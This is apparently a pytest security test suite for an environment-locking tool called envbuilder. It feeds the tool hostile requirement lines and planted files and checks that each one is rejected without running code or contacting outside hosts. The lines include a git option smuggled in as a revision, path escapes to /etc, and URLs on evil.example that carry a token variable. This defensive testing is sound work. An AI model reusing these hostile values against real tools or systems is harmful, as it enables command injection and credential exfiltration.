"""Hostile inputs of the shared list, through ``lock`` and ``explain``: nothing of a model acts, nobody is asked."""

from __future__ import annotations

import http.server
import json
import re
import subprocess
import sys
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from envbuilder.cli.main import run_command_line
from envbuilder.resolver.engine import Answer, Question
from envbuilder.resolver.uv import UvEngine
from tests.hostile import CASES, write_case

READ = [case for case in CASES if case["group"] in "SUDYKP"]
REJECTED = [case for case in READ if case["expect"].startswith("reject:")]

OPENED = {"S14": "editable", "S16": "local", "K10": "url", "P05": "url"}
"""Cases whose direct reference the policy may open, and its entry in ``[sources]``."""

ACCEPTED = {
    "S31": ({'numpy==1.0; python_version < "3" or os_name == "posix"'}, "3."),
    "U07": ({"numpy==1.0"}, "3."),
    "U19": ({"numpy==1.21.0"}, "3."),
    "Y04": (set(), "3.10."),
}
"""What the resolver has to be asked: requirements, and how the target's Python begins."""

ALL_OPEN = '[sources]\nurl = "allow"\nvcs = "allow"\nlocal = "allow"\neditable = "allow"\n'
"""A policy that opens whatever can be opened; what each opened case ends with stands in ``OPENED_ENDS``."""

OPENED_ENDS = {
    "S14": "build/source-failed",  # its build wants setuptools, which the empty index lacks
    "S16": "source/local-path",  # the wheel is not there
    "K10": "source/direct-url",  # no sha256
    "P05": "source/direct-url",
}

SOURCES_OF_MODELS = {
    "a wheel outside": ("../x-1.0-py3-none-any.whl", "input/path-escape"),
    "an absolute wheel": ("/tmp/x-1.0-py3-none-any.whl", "input/path-escape"),
    "a tree outside": ("-e ../x", "input/path-escape"),
    "a file URL": ("x @ file:///etc", "input/path-escape"),
    "a wheel behind a link": ("./link-1.0-py3-none-any.whl", "input/symlink"),
    "a tree behind a link": ("./link", "input/symlink"),
    "a tree with a link": ("./linked", "input/symlink"),
    "a wheel that is none": ("./broken-1.0-py3-none-any.whl", "archive/"),
    "an archive without a version": ("./plain.zip", "resolve/malformed"),
    "a branch": ("x @ git+https://evil.example/x@main", "source/vcs-unpinned"),
    "no revision": ("x @ git+https://evil.example/x", "source/vcs-unpinned"),
    "a short commit": ("x @ git+https://evil.example/x@0123456", "source/vcs-unpinned"),
    "git over ssh": (f"x @ git+ssh://evil.example/x@{'0' * 40}", "source/vcs-unpinned"),
    "git over http": (f"x @ git+http://evil.example/x@{'0' * 40}", "source/vcs-unpinned"),
    "git's own protocol": (f"x @ git+git://evil.example/x@{'0' * 40}", "source/vcs-unpinned"),
    "a repository of the host": (f"x @ git+file:///etc@{'0' * 40}", "input/path-escape"),
    "a repository of the model": (f"x @ git+file:repo@{'0' * 40}", "input/url-scheme"),
    "mercurial": (f"x @ hg+https://evil.example/x@{'0' * 40}", "input/url-scheme"),
    "a password for git": (f"x @ git+https://me:pw@evil.example/x@{'0' * 40}", "source/vcs-unpinned"),
    "a folder outside a repository": (
        f"x @ git+https://evil.example/x@{'0' * 40}#subdirectory=../..", "input/path-escape",
    ),
    "an option as revision": ("x @ git+https://evil.example/x@--upload-pack=touch", "input/url-malformed"),
    "md5": (f"x @ https://evil.example/x-1.0-py3-none-any.whl#md5={'0' * 32}", "source/direct-url"),
    "no hash": ("x @ https://evil.example/x-1.0-py3-none-any.whl", "source/direct-url"),
    "another protocol": (f"x @ ftp://evil.example/x-1.0-py3-none-any.whl#sha256={'0' * 64}", "input/url-scheme"),
    "a variable": (f"x @ https://${{CONDA_TOKEN}}/x-1.0.tar.gz#sha256={'0' * 64}", "source/direct-url"),
    "a variable for git": (f"x @ git+https://${{CONDA_TOKEN}}/x@{'0' * 40}", "source/vcs-unpinned"),
}  # fmt: skip

OPENABLE = [case for case in READ if case["id"] in OPENED]
REPORTED = [case for case in READ if case["expect"].startswith("finding:") and case["id"] not in OPENED]
ACCEPTABLE = [case for case in READ if case["expect"] == "accept"]
SECRET = "planted-in-the-environment"
CHANNELS = {"K05": {"conda.anaconda.org:443"}}
"""Whose home a case may ask: conda-forge's, where the file names it and the index lacks what is asked of conda."""


@dataclass
class Listener:
    """A server on loopback that has nothing, and who came."""

    url: str
    connections: int = 0
    paths: set[str] = field(default_factory=set)

    def clear(self) -> None:
        self.connections = 0
        self.paths.clear()


@contextmanager
def listening() -> Iterator[Listener]:
    class Nothing(http.server.BaseHTTPRequestHandler):
        def setup(self) -> None:
            super().setup()
            listener.connections += 1

        def do_GET(self) -> None:
            listener.paths.add(self.path)
            self.send_error(404)

        do_HEAD = do_POST = do_CONNECT = do_GET  # noqa: N815 - http.server's names

        def log_message(self, *_: Any) -> None: ...

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Nothing) as server:
        listener = Listener(url=f"http://127.0.0.1:{server.server_port}")
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
        thread.start()
        try:
            yield listener
        finally:
            server.shutdown()
            thread.join()


@dataclass(kw_only=True)
class Host:
    """A host with one index; whoever asks any other host reaches ``foreign``, which stands for its proxy."""

    index: Listener
    foreign: Listener
    model: Path
    canary: Path
    tools: list[list[str]] = field(default_factory=list)
    questions: list[Question] = field(default_factory=list)


@pytest.fixture(scope="module")
def listeners() -> Iterator[tuple[Listener, Listener]]:
    with listening() as index, listening() as foreign:
        yield index, foreign


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One store: the host's interpreters are looked at once."""
    return tmp_path_factory.mktemp("home")


@pytest.fixture
def host(
    tmp_path: Path,
    home: Path,
    listeners: tuple[Listener, Listener],
    monkeypatch: pytest.MonkeyPatch,
    request: pytest.FixtureRequest,
) -> Iterator[Host]:
    index, foreign = listeners
    index.clear()
    foreign.clear()
    host = Host(index=index, foreign=foreign, model=tmp_path / "model", canary=tmp_path / "canary")
    host.model.mkdir()
    for name in ("http_proxy", "https_proxy", "all_proxy", "no_proxy"):
        monkeypatch.delenv(name, raising=False)
    for name, value in {
        "HOME": str(home), "ENVBUILDER_HOME": str(home / "store"), "UV_DEFAULT_INDEX": f"{index.url}/simple/",
        "HTTP_PROXY": foreign.url, "HTTPS_PROXY": foreign.url, "ALL_PROXY": foreign.url, "NO_PROXY": "127.0.0.1",
        "UV_PYTHON_DOWNLOADS": "never", "AWS_SECRET_ACCESS_KEY": SECRET, "CONDA_TOKEN": SECRET,
    }.items():  # fmt: skip
        monkeypatch.setenv(name, value)
    # The worst place to be in.
    monkeypatch.chdir(host.model)
    _record(host, monkeypatch)
    yield host
    assert not host.canary.exists()
    callspec = getattr(request.node, "callspec", None)
    channels = CHANNELS.get(callspec.id, set()) if callspec else set()
    assert foreign.paths <= channels
    assert channels or not foreign.connections


def _record(host: Host, monkeypatch: pytest.MonkeyPatch) -> None:
    popen, solve = subprocess.Popen, UvEngine.solve

    def started(argv: list[str], **options: Any) -> subprocess.Popen[bytes]:
        host.tools.append(argv)
        return popen(argv, **options)

    def asked(engine: UvEngine, question: Question) -> Answer:
        host.questions.append(question)
        return solve(engine, question)

    monkeypatch.setattr(subprocess, "Popen", started)
    monkeypatch.setattr(UvEngine, "solve", asked)


def plant(host: Host) -> None:
    """Put beside the files of a model whatever a careless tool would run or obey."""
    python = f"open({str(host.canary)!r}, 'w').close()\n"
    shell = f"#!/bin/sh\ntouch '{host.canary}'\n"
    planted = {
        "pip/__init__.py": "", "pip/__main__.py": python, "setup.py": python, "sitecustomize.py": python,
        "usercustomize.py": python, "python3": shell, "evil/python": shell, "uv": shell,
        "uv.toml": f'index-url = "{host.foreign.url}/simple/"\n',
        "pip.conf": f"[global]\nindex-url = {host.foreign.url}/simple/\n",
    }  # fmt: skip
    for name, text in planted.items():
        path = host.model / name
        path.parent.mkdir(exist_ok=True)
        path.write_text(text)
        path.chmod(0o755)


def call(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, dict[str, Any]]:
    """Return the exit code and the JSON object of a command."""
    code = run_command_line([*arguments, "--output=json"])
    out, err = capsys.readouterr()
    assert SECRET not in out + err
    return code, json.loads(out)


@pytest.mark.parametrize("case", REJECTED, ids=lambda case: case["id"])
def test_what_is_rejected_starts_nothing_and_asks_nobody(
    case: dict[str, Any], host: Host, capsys: pytest.CaptureFixture[str]
) -> None:
    write_case(case, host.model)
    plant(host)
    code, out = call(capsys, "lock", str(host.model))
    assert (code, out["error"]["code"]) == (2, case["expect"].removeprefix("reject:"))
    assert (host.tools, host.index.connections) == ([], 0)


@pytest.mark.parametrize("case", OPENABLE, ids=lambda case: case["id"])
def test_what_policy_may_open_names_its_entry_and_asks_nobody(
    case: dict[str, Any], host: Host, capsys: pytest.CaptureFixture[str]
) -> None:
    write_case(case, host.model)
    plant(host)
    code, out = call(capsys, "lock", str(host.model))
    assert (code, out["error"]["code"]) == (2, case["expect"].removeprefix("finding:"))
    assert f'`[sources] {OPENED[case["id"]]} = "allow"`' in out["error"]["hint"]
    assert (host.tools, host.index.connections) == ([], 0)


@pytest.mark.parametrize("case", REPORTED, ids=lambda case: case["id"])
def test_what_is_reported_is_not_acted_on(
    case: dict[str, Any], host: Host, capsys: pytest.CaptureFixture[str]
) -> None:
    write_case(case, host.model)
    plant(host)
    code, out = call(capsys, "explain", str(host.model), "--refresh")
    assert code == 0
    assert case["expect"].removeprefix("finding:") in {finding["code"] for finding in out["findings"]}
    _asked_the_index_alone(host)


@pytest.mark.parametrize("case", ACCEPTABLE, ids=lambda case: case["id"])
def test_what_is_accepted_reaches_the_resolver_as_it_was_written(
    case: dict[str, Any], host: Host, capsys: pytest.CaptureFixture[str]
) -> None:
    write_case(case, host.model)
    plant(host)
    code, out = call(capsys, "lock", str(host.model), "--refresh")
    assert (code, out["error"]["code"]) == (2, "resolve/no-solution")
    requirements, python = ACCEPTED[case["id"]]
    question = host.questions[0]
    assert set(question.requirements) - {"pip", "setuptools", "wheel"} == requirements
    assert question.target.python.startswith(python)
    _asked_the_index_alone(host)


GROUP_S = [case for case in READ if case["group"] == "S" and case["id"] not in ACCEPTED]


@pytest.fixture
def everything_open(tmp_path: Path) -> str:
    path = tmp_path / "open.toml"
    path.write_text(ALL_OPEN)
    return str(path)


@pytest.mark.parametrize("case", [*GROUP_S, *OPENABLE], ids=lambda case: case["id"])
def test_an_open_policy_opens_nothing_else(
    case: dict[str, Any], host: Host, everything_open: str, capsys: pytest.CaptureFixture[str]
) -> None:
    write_case(case, host.model)
    plant(host)
    code, out = call(capsys, "lock", str(host.model), "--policy", everything_open, "--refresh")
    kind, _, expected = case["expect"].partition(":")
    ends = OPENED_ENDS.get(case["id"], expected if kind == "reject" else "resolve/no-solution")
    assert (code, out["error"]["code"]) == (2, ends)
    if kind == "reject":
        assert (host.tools, host.index.connections) == ([], 0)
    assert not any(str(host.model) in argument for argv in host.tools for argument in argv)


@pytest.mark.parametrize("title", SOURCES_OF_MODELS)
def test_what_no_policy_opens(
    title: str, host: Host, everything_open: str, capsys: pytest.CaptureFixture[str]
) -> None:
    line, ends = SOURCES_OF_MODELS[title]
    plant(host)
    outside = host.model.parent / "outside"
    (outside / "in").mkdir(parents=True)
    (outside / "x.whl").write_bytes(b"")
    (host.model / "link-1.0-py3-none-any.whl").symlink_to(outside / "x.whl")
    (host.model / "link").symlink_to(outside)
    (host.model / "linked").mkdir()
    (host.model / "linked" / "setup.py").symlink_to("/etc/passwd")
    (host.model / "broken-1.0-py3-none-any.whl").write_bytes(b"PK\x03\x04")
    (host.model / "plain.zip").write_bytes(b"PK\x05\x06" + bytes(18))
    (host.model / "requirements.txt").write_text(f"{line}\n")
    code, out = call(capsys, "lock", str(host.model), "--policy", everything_open)
    assert code == 2
    assert out["error"]["code"].startswith(ends)
    assert not any("git" in Path(argv[0]).name for argv in host.tools)


@pytest.mark.parametrize(
    "line",
    [
        f"x @ git+https://evil.example/x@{'0' * 40}",
        f"x @ https://evil.example/x-1.0-py3-none-any.whl#sha256={'0' * 64}",
    ],
)
def test_what_the_policy_opens_is_fetched_and_nothing_else_is_told(
    line: str, host: Host, everything_open: str, capsys: pytest.CaptureFixture[str]
) -> None:
    plant(host)
    (host.model / "requirements.txt").write_text(f"{line}\n")
    code, out = call(capsys, "lock", str(host.model), "--policy", everything_open)
    assert (code, out["error"]["code"]) == (2, "build/network")
    assert host.foreign.paths == {"evil.example:443"}
    host.foreign.clear()


def _asked_the_index_alone(host: Host) -> None:
    assert host.questions
    names = {re.split(r"[=<>; ]", line)[0] for question in host.questions for line in question.requirements}
    assert host.index.paths
    assert host.index.paths <= {f"/simple/{name}/" for name in names}
    assert not any(str(host.model) in argument for argv in host.tools for argument in argv)


def test_no_model_makes_its_own_policy(
    host: Host, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    url = f"{host.foreign.url}/evil-1.0-py3-none-any.whl"
    (host.model / "MLmodel").write_text("run_id: x\n")
    (host.model / "requirements.txt").write_text(f"evil @ {url}#sha256={'0' * 64}\n")
    (host.model / "envbuilder.toml").write_text('[sources]\nurl = "allow"\n')
    code, out = call(capsys, "lock", ".")
    assert (code, out["error"]["code"]) == (2, "policy/invalid")
    assert "--policy" in out["error"]["hint"]
    monkeypatch.chdir(tmp_path)
    code, out = call(capsys, "lock", str(host.model))
    assert (code, out["error"]["code"]) == (2, "source/direct-url")
    assert (host.tools, host.index.connections) == ([], 0)


def test_the_traps_work(host: Host) -> None:
    plant(host)
    for argv in (
        [sys.executable, "-m", "pip"],
        [str(host.model / "evil" / "python")],
        [sys.executable, "setup.py"],
    ):
        subprocess.run(argv, check=True)
        host.canary.unlink()
    with pytest.raises(urllib.error.HTTPError) as caught:
        # An opener of its own: urlopen keeps the first one's proxies for the whole process.
        urllib.request.build_opener().open("http://evil.example/simple/")
    caught.value.close()
    assert host.foreign.paths == {"http://evil.example/simple/"}
    host.foreign.clear()


@pytest.mark.skipif(not CASES, reason="the list of hostile inputs is not here")
def test_every_case_has_its_test() -> None:
    assert {case["id"] for case in OPENABLE} == set(OPENED) == set(OPENED_ENDS)
    assert {case["id"] for case in ACCEPTABLE} == set(ACCEPTED)
